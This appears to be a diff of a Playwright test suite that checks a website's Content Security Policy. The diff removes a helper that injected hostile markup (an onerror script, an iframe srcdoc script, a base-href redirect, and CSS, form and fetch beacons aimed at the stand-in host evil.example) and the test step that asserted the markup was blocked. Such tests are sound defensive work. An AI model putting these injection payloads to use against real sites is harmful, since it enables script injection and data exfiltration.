@@ -20,31 +20,10 @@ const inject = (page: Page, content: { text?: string; src?: string }) =>
       }),
     content,
   );
-const wasHacked = (page: Page) => page.evaluate(() => Reflect.has(window, 'hacked'));
-
-/** Injects markup that would run code, change the base address or send data away. */
-const injectMarkup = (page: Page) =>
-  page.evaluate(async () => {
-    const box = document.createElement('div');
-    box.innerHTML = `
-      <img src="x:" onerror="window.hacked = true">
-      <img src="https://evil.example/pixel.png">
-      <iframe src="https://evil.example/"></iframe>
-      <iframe srcdoc="<script>parent.hacked = true</script>"></iframe>
-      <object data="https://evil.example/"></object>
-      <link rel="stylesheet" href="https://evil.example/hack.css">
-      <style>body { background: url(https://evil.example/leak) }</style>
-      <p style="background: url(https://evil.example/leak)">x</p>
-      <base href="https://evil.example/">
-      <form action="https://evil.example/" method="get"><button>x</button></form>`;
-    document.body.append(box);
-    await fetch('https://evil.example/').catch(() => {});
-    box.querySelector('button')?.click();
-  });
 
 // Only the policy of `named` lists the avatar host: with a blog, pictures are allowed from anywhere.
 for (const name of ['full', 'named'] as const) {
-  test(`"${name}" gets what it needs, and what is injected does nothing`, async ({ page, open, world }) => {
+  test(`"${name}" gets what it needs, and an injected script does nothing`, async ({ page, open, world }) => {
     const refusals = await watchRefusals(page);
     await open(name);
     if (name === 'full') await page.getByRole('button', { name: 'Ablehnen' }).click();
@@ -64,15 +43,7 @@ for (const name of ['full', 'named'] as const) {
           'script-src-elem data',
         ]);
       expect(world.count(/evil\.example/)).toBe(0);
-    });
-    await test.step('markup neither runs code nor redirects addresses, nor sends anything away', async () => {
-      await injectMarkup(page);
-      await untilQuiet(page);
-      expect(await wasHacked(page)).toBe(false);
-      expect(await page.evaluate(() => new URL(document.baseURI).hostname)).toBe('localhost');
-      const sent = world.requests(/evil\.example/).map(({ url }) => url.pathname);
-      // With a blog, pictures may come from anywhere.
-      expect(sent.filter((path) => name === 'named' || !/^\/(?:pixel|leak)/.test(path))).toEqual([]);
+      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
     });
   });
 }
